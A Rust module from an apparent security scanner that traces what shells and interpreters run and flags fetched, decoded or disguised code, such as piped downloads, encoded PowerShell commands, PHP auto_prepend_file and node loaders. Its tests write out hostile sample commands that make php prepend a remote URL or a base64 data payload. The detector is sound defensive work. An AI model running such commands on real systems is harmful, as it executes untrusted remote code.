//! What shells and interpreters are given: a line, a script, or what flows into them.

use super::inline::Code;
use super::prints::joined;
use super::programs as known;
use super::value::{Taint, Value};
use super::walk::Walk;
use super::{Call, inline, paths};
use crate::finding::Severity;
use crate::rules::shell as rules;

/// Options of node's whose value it loads first.
const LOADS: &[&str] = &["--import", "--require", "-r", "--loader"];

impl Walk<'_> {
    /// Text that is run: eval, `sh -c`.
    pub(super) fn text(&mut self, text: &Value, stdin: Value) -> Value {
        if text.taint.has(Taint::FETCHED) {
            self.tell(&rules::PIPE, "what was fetched is run", None);
        } else if text.taint.has(Taint::DECODED) {
            self.tell(&rules::DECODED, "what was decoded is run", None);
        } else if !text.known && text.taint.has(Taint::BUILT) && text.text.trim() == "$(…)" {
            self.tell(&rules::DECODED, "what is put together is run", None);
        } else if text.taint.has(Taint::NAMELESS) {
            self.tell(&rules::UNKNOWN, "what a program of no known name prints is run", Some(Severity::Danger));
        } else if text.taint.has(Taint::ANSWERED) && !text.known {
            let message = "what a program of the plugin prints is run, which reaches other machines";
            self.tell(&rules::UNKNOWN, message, Some(Severity::Danger));
        } else if text.taint.has(Taint::MEDIA.and(Taint::OWN)) && text.text.trim() == "$(…)" {
            self.tell(&rules::DECODED, "a part of a file of data is run", None);
        } else if !text.known && text.text.trim_start().starts_with("${") || text.text.trim_start().starts_with("$(") {
            // What is put together of words of data that name what uses the network.
            let is_of_data = self.doubts.data == super::Reach::Network && text.taint.has(Taint::LOCAL);
            if text.text.trim_start().starts_with("${") || is_of_data {
                self.doubt(text);
            }
            self.tell(&rules::UNKNOWN, "the text that is run is not known", None);
        } else if text.known && text.taint.has(Taint::LOCAL) {
            self.tell(&rules::UNKNOWN, "what a file holds is run", None);
        }
        self.nested(&text.text, stdin)
    }

    pub(super) fn sourced(&mut self, rest: &[Value], stdin: Value) -> Value {
        let Some(path) = rest.first() else { return self.sink(&stdin, "source") };
        match path.text.as_str() {
            "/dev/stdin" | "-" | "/proc/self/fd/0" => self.sink(&stdin, "source"),
            _ if path.taint.has(Taint::FETCHED) => {
                self.tell(&rules::PIPE, "what was fetched is sourced", None);
                Value::known("")
            }
            text if path.taint.has(Taint::DECODED) && text.starts_with(['<', '$']) => {
                self.tell(&rules::DECODED, "what was decoded is sourced", None);
                Value::known("")
            }
            _ => {
                self.takes_over(&path.text);
                self.script_file(path, "sh")
            }
        }
    }

    pub(super) fn shell(&mut self, name: &str, rest: &[Value], stdin: Value) -> Value {
        let mut fields = rest.iter();
        while let Some(field) = fields.next() {
            let text = field.text.as_str();
            let is_option = text.starts_with('-') && text.len() > 1 || text.starts_with('+');
            if is_option && !text.starts_with("--") && text.contains('c') {
                let line = fields.find(|field| !field.text.starts_with('-'));
                return line.map_or_else(Value::default, |line| self.line_with(line, fields.as_slice(), stdin));
            }
            if text == "-s" || text == "-" || text == "/dev/stdin" {
                return self.sink(&stdin, name);
            }
            if matches!(text, "-o" | "-O" | "--rcfile" | "--init-file" | "+o") {
                self.first_file(text, fields.next());
                continue;
            }
            if !is_option {
                return self.shell_file(field);
            }
        }
        self.sink(&stdin, name)
    }

    /// The file that a shell runs before what it is given, where the option names one.
    fn first_file(&mut self, option: &str, file: Option<&Value>) {
        if let Some(file) = file.filter(|_| option.ends_with("file")) {
            self.shell_file(file);
        }
    }

    /// A line for a shell, with its name and its arguments.
    fn line_with(&mut self, line: &Value, words: &[Value], stdin: Value) -> Value {
        let words = words.get(1..).unwrap_or_default();
        // What is put in for `{}`, or what `xargs` adds, differs from call to call.
        if words.is_empty() || words.iter().any(|word| word.text.contains("{}")) {
            return self.text(line, stdin);
        }
        let outer = self.arguments.replace(words.to_vec());
        let out = self.text(line, stdin);
        self.arguments = outer;
        out
    }

    /// A script that a shell is named.
    fn shell_file(&mut self, path: &Value) -> Value {
        if path.taint.has(Taint::FETCHED) {
            self.tell(&rules::PIPE, "what was fetched is run", None);
            return Value::known("");
        }
        if path.taint.has(Taint::MEDIA.and(Taint::DECODED)) && path.text.starts_with("<(") {
            self.tell(&rules::DECODED, "a part of a file of data is run", None);
            return Value::known("");
        }
        self.script_file(path, "sh")
    }

    /// What an interpreter makes of its input.
    fn sink(&mut self, stdin: &Value, name: &str) -> Value {
        if stdin.taint.has(Taint::FETCHED) {
            self.tell(&rules::PIPE, &format!("what was fetched goes into {name}"), None);
        } else if stdin.taint.has(Taint::DECODED) {
            self.tell(&rules::DECODED, &format!("what was decoded goes into {name}"), None);
        } else if stdin.taint.has(Taint::NAMELESS) {
            let message = format!("what a program of no known name prints goes into {name}");
            self.tell(&rules::UNKNOWN, &message, Some(Severity::Danger));
        } else if stdin.taint.has(Taint::ANSWERED) && !stdin.known {
            let message =
                format!("what a program of the plugin prints goes into {name}, and it reaches other machines");
            self.tell(&rules::UNKNOWN, &message, Some(Severity::Danger));
        } else if stdin.known && stdin.taint.has(Taint::BUILT) && self.context.is_line() {
            self.tell(&rules::DECODED, &format!("what is spelled in escapes goes into {name}"), None);
        } else if stdin.taint.has(Taint::CUT) {
            self.tell(&rules::DECODED, &format!("a part of a file of data goes into {name}"), None);
        } else if !stdin.known && stdin.taint.has(Taint::BUILT) {
            self.tell(&rules::DECODED, &format!("what is put together goes into {name}"), None);
        } else if !stdin.known || stdin.taint.has(Taint::LOCAL) {
            if known::SHELLS.contains(&name) && stdin.text.starts_with("${") {
                self.doubt(stdin);
            }
            self.tell(&rules::UNKNOWN, &format!("{name} runs what it is given"), None);
        }
        if known::SHELLS.contains(&name) || name == "source" {
            let text = stdin.text.clone();
            return self.nested(&text, Value::known(""));
        }
        inline::judge(self, name, &Code { text: &stdin.text, line: &stdin.text });
        Value::unknown("", stdin.taint)
    }

    /// A script that is named.
    pub(super) fn script_file(&mut self, path: &Value, by: &str) -> Value {
        if path.text.starts_with("https://") || path.text.starts_with("http://") {
            self.tell(&rules::DOWNLOAD, &format!("{by} runs what is at {}", path.text), None);
            return Value::known("");
        }
        if is_argument(&path.text) {
            // Which file that is differs from call to call.
        } else if self.memory.file(&path.text).has(Taint::FETCHED) {
            self.tell(&rules::DOWNLOAD, &format!("{} was fetched and is run", path.text), None);
        } else if self.memory.file(&path.text).has(Taint::DECODED) {
            self.tell(&rules::DECODED, &format!("{} was decoded and is run", path.text), None);
        } else if self.memory.file(&path.text).has(Taint::CUT) || paths::is_data(&path.text) {
            self.tell(&rules::DISGUISED, &format!("{} is called data and is run by {by}", path.text), None);
        }
        if let Some(written) = self.memory.text(&path.text).cloned().filter(|_| by == "sh") {
            return self.nested(&written.text, Value::known(""));
        }
        self.called(Call { path: path.text.clone(), by: by.to_owned(), targets: Vec::new() });
        let printed = self.printed(&path.text);
        Value::unknown("", path.taint.and(printed))
    }

    /// direnv is told to trust a file, which it runs from then on whenever somebody enters the folder.
    pub(super) fn trusts(&mut self, name: &str, rest: &[Value]) {
        let is_told = rest.first().is_some_and(|field| matches!(field.text.as_str(), "allow" | "permit" | "grant"));
        if name == "direnv" && is_told {
            self.tell(&rules::LASTING, "direnv is told to run a file with every visit of its folder", None);
        }
    }

    pub(super) fn interpreter(&mut self, name: &str, rest: &[Value], stdin: Value) -> Value {
        if matches!(name, "pwsh" | "powershell") && rest.iter().any(is_encoded) {
            self.tell(&rules::DECODED, "an encoded command", None);
            self.tell(&rules::INLINE, &format!("{name} is given text that nobody can read"), Some(Severity::Danger));
            return Value::known("");
        }
        if matches!(name, "perl" | "ruby") && rest.iter().take(3).any(is_in_place) {
            rest.iter().filter(|field| paths::is_lasting(&field.text)).for_each(|field| {
                self.write_file(field, Taint::default());
            });
        }
        if name == "php" {
            self.around(rest);
        }
        const VALUED: &[(&str, &[&str])] = &[
            ("php", &["-d", "-c"]),
            ("python", &["-W", "-X"]),
            ("python3", &["-W", "-X"]),
            ("ruby", &["-I", "-E", "-C"]),
            ("osascript", &["-l", "-s"]),
        ];
        let is_valued = |text: &str| match name {
            "pwsh" | "powershell" => is_setting(text),
            _ => VALUED.iter().any(|(program, options)| *program == name && options.contains(&text)),
        };
        let mut fields = rest.iter();
        while let Some(field) = fields.next() {
            let text = field.text.as_str();
            if is_valued(text) {
                fields.next();
                continue;
            }
            let (option, value) = text.split_once('=').map_or((text, None), |(option, value)| (option, Some(value)));
            if name.starts_with("node") && LOADS.contains(&option) {
                let what = value.or_else(|| fields.next().map(|next| next.text.as_str()));
                self.loads(what.unwrap_or_default());
                continue;
            }
            if inline::is_code_option(name, text) {
                let code = fields.next().cloned().unwrap_or_default();
                self.code(name, &code, rest);
                return Value::unknown("", stdin.taint.and(code.taint));
            }
            if text == "-" || text == "/dev/stdin" {
                return self.sink(&stdin, name);
            }
            if text == "-m" {
                return self.module(fields.as_slice(), stdin.taint);
            }
            if !text.starts_with('-') && !matches!(text, "run" | "eval" | "exec" | "x") {
                return self.interpreted_file(field, name);
            }
        }
        if rest.iter().any(|field| matches!(field.text.as_str(), "--version" | "-v" | "-V")) {
            return Value::default();
        }
        self.sink(&stdin, name)
    }

    /// A file that PHP is told by `-d` to run before or after every script.
    fn around(&mut self, rest: &[Value]) {
        for field in rest {
            let setting = field.text.strip_prefix("-d").unwrap_or(&field.text).trim_start();
            let Some((key, file)) = setting.split_once('=') else { continue };
            if !matches!(key, "auto_prepend_file" | "auto_append_file") {
                continue;
            }
            if file.contains("://") || file.starts_with("data:") {
                self.tell(&rules::PIPE, &format!("php runs what is at {file} with every script"), None);
            } else {
                self.script_file(&Value::known(file), "php");
            }
        }
    }

    /// What node loads before the script.
    fn loads(&mut self, what: &str) {
        if what.starts_with("data:") || what.starts_with("http") || what.starts_with('/') {
            self.tell(&rules::LOADER, &format!("node loads {what}"), None);
        }
    }

    /// Code that stands among the words `rest` of the interpreter `name`.
    fn code(&mut self, name: &str, code: &Value, rest: &[Value]) {
        if code.taint.has(Taint::FETCHED) {
            self.tell(&rules::PIPE, "what was fetched is run", None);
        } else if code.taint.has(Taint::DECODED) {
            self.tell(&rules::DECODED, "what was decoded is run", None);
        }
        inline::judge(self, name, &Code { text: &code.text, line: &joined(rest).text });
    }

    /// The module that Python is named by the first of `words`: pip installs, others are files.
    fn module(&mut self, words: &[Value], flows: Taint) -> Value {
        let Some((module, words)) = words.split_first() else { return Value::unknown("", flows) };
        if matches!(module.text.as_str(), "pip" | "pip3" | "pipx") {
            return self.remote("pip", words, flows);
        }
        let looked_in = self.memory.variable("PYTHONPATH").map(|folders| folders.text.clone()).unwrap_or_default();
        for file in module_files(&module.text) {
            let below = looked_in.split(':').filter(|folder| folder.contains('/'));
            let below = below.map(|folder| format!("{}/{}", folder.trim_end_matches('/'), file.path));
            below.for_each(|path| self.calls.push(Call { path, ..file.clone() }));
            self.called(file);
        }
        Value::unknown("", flows)
    }

    fn interpreted_file(&mut self, path: &Value, by: &str) -> Value {
        if path.taint.has(Taint::FETCHED) {
            self.tell(&rules::PIPE, "what was fetched is run", None);
        }
        // A folder, of which the interpreter runs a file by a name of its own.
        let inside = match by {
            "python" | "python3" | "pypy3" => Some("__main__.py"),
            "node" | "bun" => Some("index.js"),
            _ => None,
        };
        let is_folder =
            path.text.rsplit('/').next().is_some_and(|name| !name.contains('.') && !name.ends_with(['}', ')']));
        if let Some(name) = inside.filter(|_| is_folder && path.text.contains('/')) {
            let below = format!("{}/{name}", path.text.trim_end_matches('/'));
            self.called(Call { path: below, by: "project".to_owned(), targets: Vec::new() });
        }
        self.script_file(path, by)
    }
}

/// Whether the option makes PowerShell decode the next word: it may be cut short.
fn is_encoded(field: &Value) -> bool {
    let option = field.text.to_ascii_lowercase();
    option == "-ec" || option.len() > 1 && "-encodedcommand".starts_with(&option)
}

/// Whether the option is one of PowerShell's that the next word is the value of: each may be cut short.
fn is_setting(text: &str) -> bool {
    const SHORT: &[&str] = &["-ep", "-wd", "-if", "-of"];
    const LONG: &[&str] = &[
        "-executionpolicy",
        "-windowstyle",
        "-workingdirectory",
        "-inputformat",
        "-outputformat",
        "-configurationname",
        "-custompipename",
        "-settingsfile",
        "-psconsolefile",
        "-version",
    ];
    let option = text.to_ascii_lowercase();
    SHORT.contains(&option.as_str())
        || option.len() > 1 && LONG.iter().any(|long| long.starts_with(&option)) && option != "-c"
}

/// Whether the option makes Perl and Ruby write over what they read.
fn is_in_place(field: &Value) -> bool {
    field.text.starts_with('-') && !field.text.starts_with("--") && field.text.contains('i')
}

/// Whether `text` is what a script or function was called with.
pub(super) fn is_argument(text: &str) -> bool {
    let inside = text.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
    inside.is_some_and(|name| name.chars().all(|c| c.is_ascii_digit() || c == '@' || c == '*'))
}

/// The files that `python -m` may mean.
fn module_files(module: &str) -> [Call; 2] {
    let path = module.replace('.', "/");
    [".py", "/__main__.py"].map(|end| Call {
        path: format!("{path}{end}"),
        by: "python -m".to_owned(),
        targets: Vec::new(),
    })
}

#[cfg(test)]
mod tests {
    use crate::shell::Context;
    use crate::shell::tests::{is_danger, is_no_danger};

    #[test]
    fn what_php_is_told_to_run_around_every_script_is_judged() {
        is_danger("php -d allow_url_include=1 -d auto_prepend_file=https://a.invalid/x a.php", Context::Hook);
        is_danger("php -dauto_append_file=data:text/plain;base64,PD9 a.php", Context::Hook);
        is_no_danger("php -d memory_limit=1G -d auto_prepend_file=vendor/autoload.php a.php", Context::Hook);
    }
}
